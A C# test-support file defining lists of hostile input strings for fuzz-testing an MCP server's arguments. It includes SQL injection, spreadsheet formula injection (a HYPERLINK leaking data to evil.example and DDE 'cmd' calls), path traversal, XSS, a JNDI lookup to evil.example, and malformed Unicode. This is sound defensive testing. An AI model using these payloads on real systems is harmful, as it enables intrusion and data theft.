using System.Globalization;
using System.Text;

namespace CycleTokens.Mcp.Tests.Support;

/// <summary>
/// Strings an attacker (or a confused model) might put in any string argument: SQL, spreadsheet formulas, control
/// and unusual Unicode characters, paths, sizes at and beyond every limit. Lone surrogates are not here: the C#
/// client cannot send them, so they go through raw JSON (<see cref="RawLineSession"/>).
/// </summary>
internal static class HostileStrings
{
    public const int OneMegabyte = 1 << 20;

    public static readonly IReadOnlyList<string> Sql =
    [
        "'; DROP TABLE transactions; --",
        "\" OR 1=1",
        "' OR '1'='1",
        "1; DELETE FROM accounts WHERE 1=1",
        "Robert'); DROP TABLE accounts;--",
        "%' UNION SELECT id, balance FROM accounts --",
        "x'); UPDATE accounts SET balance = 1000000 WHERE id = 'alice'; --",
        "$account",
        "?",
    ];

    public static readonly IReadOnlyList<string> Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "+cmd",
        "-2+3",
        "-2",
        "-cmd",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM",
        "\t=1+1",
        "\r=1+1",
        "=cmd|'/C notepad'!'A1'",
    ];

    public static readonly IReadOnlyList<string> Unicode =
    [
        "\u202Egnp.exe",                 // right-to-left override
        "abc\u202Ddef\u202C",            // left-to-right override and pop
        "a\u200Bb",                      // zero-width space
        "\u200D\u200C\u2060",            // zero-width joiner, non-joiner, word joiner
        "\uFEFFbom",                     // byte order mark
        "🪙💸🔥",                        // emoji (surrogate pairs)
        "👩‍👩‍👧‍👦",                        // emoji ZWJ sequence
        "e\u0301",                       // combining accent
        "é",                             // precomposed (must stay distinct from the combining form)
        "\u2028line\u2029para",          // line and paragraph separators
        "ＤＲＯＰ　ＴＡＢＬＥ",          // full-width letters and space
        "аlice",                         // Cyrillic a
        "𝕏𝔂𝔷",                           // mathematical letters outside the BMP
        "\uFFFF\uFFFE",                  // non-characters
        "\u00A0",                        // no-break space only
        "日本語の説明",
        "ﷺ",
    ];

    public static readonly IReadOnlyList<string> Control =
    [
        "a\u0000b",
        "\u0000",
        "\u0001",
        "line1\nline2",
        "cr\rlf",
        "crlf\r\n",
        "tab\there",
        "\u001B[31mred\u001B[0m",
        "\u007F",
        "\u0085next-line",
        "\u009Bcsi",
    ];

    public static readonly IReadOnlyList<string> Paths =
    [
        "../../etc/passwd",
        "..\\..\\windows\\system32",
        "/tmp/ledger.db",
        "file:///etc/passwd",
        "C:\\Users\\x\\ledger.db",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%s%s%n",
    ];

    public static readonly IReadOnlyList<string> Blank = ["", " ", "   ", "\u3000"];

    /// <summary>Every string above plus lengths at and beyond the limits (64, 100, 200, 255, 500) and 1 MB.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Sql, .. Formulas, .. Unicode, .. Control, .. Paths, .. Blank, .. Lengths()];

    /// <summary>The same but without the 1 MB string, for places that repeat it many times.</summary>
    public static IReadOnlyList<string> AllButHuge { get; } = [.. All.Where(s => s.Length < OneMegabyte)];

    private static IEnumerable<string> Lengths()
    {
        foreach (var n in new[] { 65, 101, 201, 256, 501 })
        {
            yield return new string('a', n);
        }

        yield return new string('x', OneMegabyte);
    }

    /// <summary>A random string from an alphabet rich in characters that break naive code.</summary>
    public static string Random(Random random, int maxLength = 80)
    {
        string[] alphabet =
        [
            "a", "Z", "0", "9", "_", ".", "-", ":", "@", "'", "\"", ";", ",", " ", "=", "+", "%", "\\", "/", "*", "(", ")",
            "\u0000", "\u0001", "\n", "\r", "\t", "\u007F", "\u0085", "\u202E", "\u200B", "\uFEFF", "🪙", "é", "\u0301",
            "аб", "𝕏", "\u2028", "\uFFFF", "--", "DROP", "OR 1=1",
        ];
        var length = random.Next(1, maxLength);
        var sb = new StringBuilder();
        while (sb.Length < length)
        {
            sb.Append(alphabet[random.Next(alphabet.Length)]);
        }

        return sb.ToString();
    }

    /// <summary>How a string is named in a failure message: escaped and shortened, with its length.</summary>
    public static string Describe(string value, int max = 60)
    {
        var sb = new StringBuilder();
        foreach (var c in value.Length > max ? value[..max] : value)
        {
            sb.Append(c is < ' ' or (>= '\u007F' and <= '\u009F') || char.IsSurrogate(c) || c is '\u202E' or '\u202D' or '\u202C'
                ? "\\u" + ((int)c).ToString("x4", CultureInfo.InvariantCulture)
                : c.ToString());
        }

        return value.Length > max ? $"{sb}... ({value.Length} chars)" : sb.ToString();
    }
}
